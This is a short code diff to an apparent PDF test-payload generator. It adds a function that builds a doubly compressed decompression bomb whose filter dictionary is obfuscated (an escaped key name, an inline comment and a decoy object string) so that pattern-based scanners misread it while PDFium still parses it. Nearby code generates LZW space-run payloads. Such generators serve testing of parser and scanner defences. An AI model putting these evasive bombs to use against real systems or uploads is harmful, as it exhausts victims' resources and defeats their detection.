@@ -597,6 +597,15 @@ def pdf_bomb(size: int = 4 * GiB, *, twice: bool = False, image: bool = False) -
     return pdf_bytes(pdf_pages([pdf_stream(packed, filters)]))
 
 
+def disguised_bomb(size: int = GiB) -> bytes:
+    """pdf_bomb packed twice, its dictionary written to be misread by a pattern: the filter key escaped
+    ("/Fil#74er"), a comment where a space would do, and "1 0 obj" in a string. PDFium reads it as usual."""
+    data = pdf_bomb(size, twice=True)
+    start = data.index(b"/Filter [/FlateDecode /Fl#61teDecode]")
+    return (data[:start] + b"/Fil#74er%kommentar\n[/FlateDecode /FlateDecode] /Titel (1 0 obj)"
+            + data[start + len(b"/Filter [/FlateDecode /Fl#61teDecode]"):])
+
+
 def lzw_spaces(cycles: int) -> bytes:
     """LZW data (9–12 bit codes, as PDF has them) for a run of spaces: each code one space longer than the one
     before, the table cleared when full; ~7 MB of spaces per ~5 KB cycle, written without unpacking anything."""
